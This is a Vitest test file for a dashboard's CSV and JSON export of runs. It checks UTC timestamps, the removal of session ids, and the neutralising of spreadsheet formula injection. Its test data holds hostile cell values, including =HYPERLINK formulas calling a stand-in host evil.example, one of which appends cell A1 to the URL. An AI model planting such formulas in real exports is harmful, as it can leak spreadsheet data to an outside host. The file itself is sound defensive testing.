import { describe, expect, test } from 'vitest';
import type { StartedRun } from 'webrun-react';
import { readCsv } from '../../../src/core/csv.js';
import { toCsv, toJson } from '../../../src/dashboard/data/exportRuns.js';
import { manyRuns, sampleRun, workingDay } from '../../../stories/dashboard/sampleRuns.js';

const startedAt = Date.UTC(2026, 10, 26, 14, 2);
const line = (run: Parameters<typeof toCsv>[0][number]): string => toCsv([run]).split('\r\n')[1] ?? '';

describe('an export', () => {
  test('as CSV has a mark of its encoding, a head and one line per run', () => {
    const csv = toCsv(manyRuns(30));
    const [first] = JSON.parse(toJson(manyRuns(1))) as object[];
    expect(csv.split('\r\n')[0]).toBe(`\u{FEFF}${Object.keys(first!).join(',')}`);
    expect(csv.trimEnd().split('\r\n')).toHaveLength(31);
  });

  test('writes times in UTC and leaves an unknown cost empty', () => {
    const run = sampleRun('completed', { runId: 'r', startedAt, costUsd: null, tags: ['a', 'b'] });
    expect(line(run)).toBe(
      `r,${run.taskId},completed,,Find the three cheapest desk lamps,,a b,2026-11-26T14:02:00.000Z,2026-11-26T14:02:23.000Z,23,,,Done.`,
    );
  });

  test('has an answer that came as data only', () => {
    const run = sampleRun('completed', { result: { message: null, output: { price: 32 } } });
    expect(JSON.parse(toJson([run]))).toMatchObject([{ result: '{"price":32}' }]);
  });

  test.each([
    ['=HYPERLINK("https://evil.example","x")', `"'=HYPERLINK(""https://evil.example"",""x"")"`],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', `"'\t'=1"`],
    ['\n=1', `"'\n'=1"`],
    ['ok;=1+1', `"ok;'=1+1"`],
    ['ok; "=1+1', `"ok;' ""=1+1"`],
    ['one\n\n- two', `"one\n\n'- two"`],
    ['one; two', '"one; two"'],
    ['＝1+1', "'＝1+1"],
    ['a, "b"\nc', '"a, ""b""\nc"'],
    ['plain', 'plain'],
  ])('makes %j safe for a spreadsheet', (message, cell) => {
    expect(line(sampleRun('completed', { result: { message } })).endsWith(`,${cell.split('\r\n')[0]}`)).toBe(
      true,
    );
  });

  // As Excel and LibreOffice of German, French or Arabic do.
  test.each([';', '\t'])('is no formula either where cells are separated by %j', (separator) => {
    const message = ['ok', '=HYPERLINK("https://evil.example/?"&A1', '"=1+1', 'a\n@SUM(1)', ' -1'].join(
      separator,
    );
    const run = sampleRun('completed', { result: { message }, tags: [`a${separator}=1+1`] });
    const cells = toCsv([run])
      .slice(1)
      .split(/\r?\n/)
      .flatMap((each) => splitCells(each, separator));
    expect(cells.filter((cell) => /^\s*[=+\-@]/.test(cell))).toEqual([]);
    expect(readCsv(toCsv([run]))?.map((cells) => cells.length)).toEqual([13, 13]);
  });

  test('carries no session id, which is a credential, in either form', () => {
    const runs = workingDay();
    for (const text of [toCsv(runs), toJson(runs)]) {
      for (const { sessionId } of runs) if (sessionId !== undefined) expect(text).not.toContain(sessionId);
      expect(text).not.toMatch(/session/i);
    }
  });

  test.each(['completed', 'failed', 'refused'] as const)(
    'does not carry it in a message of a %s run either',
    (status) => {
      const message = 'Session session-4711 was closed.';
      const run = {
        ...sampleRun(status, { result: { message }, failure: { message }, error: { message } }),
        sessionId: 'session-4711',
      } as StartedRun;
      for (const text of [toCsv([run]), toJson([run])]) {
        expect(text).toContain('Session … was closed.');
        expect(text).not.toContain('session-4711');
      }
    },
  );

  test('leaves the message whole where the id is a short one of an app, which its words may contain', () => {
    const run = {
      ...sampleRun('completed', { result: { message: '12 lamps' } }),
      sessionId: '1',
    } as StartedRun;
    expect(toJson([run])).toContain('12 lamps');
  });

  test('as JSON is a list that can be read again', () => {
    const list = JSON.parse(toJson(workingDay())) as unknown[];
    expect(list).toHaveLength(workingDay().length);
    expect(list[0]).toMatchObject({ runId: 'run_queued_1', status: 'queued', costUsd: null });
  });
});

/** Splits a line as spreadsheets do: a quote counts at the start of a cell only, and what follows the closing one is text. */
function splitCells(line: string, separator: string): string[] {
  const [, start, rest = ''] = /^("(?:[^"]|"")*(?:"|$))?(.*)$/.exec(line) ?? [];
  const at = rest.indexOf(separator);
  const cell =
    (start?.replace(/^"|"$/g, '').replaceAll('""', '"') ?? '') + (at < 0 ? rest : rest.slice(0, at));
  return at < 0 ? [cell] : [cell, ...splitCells(rest.slice(at + 1), separator)];
}
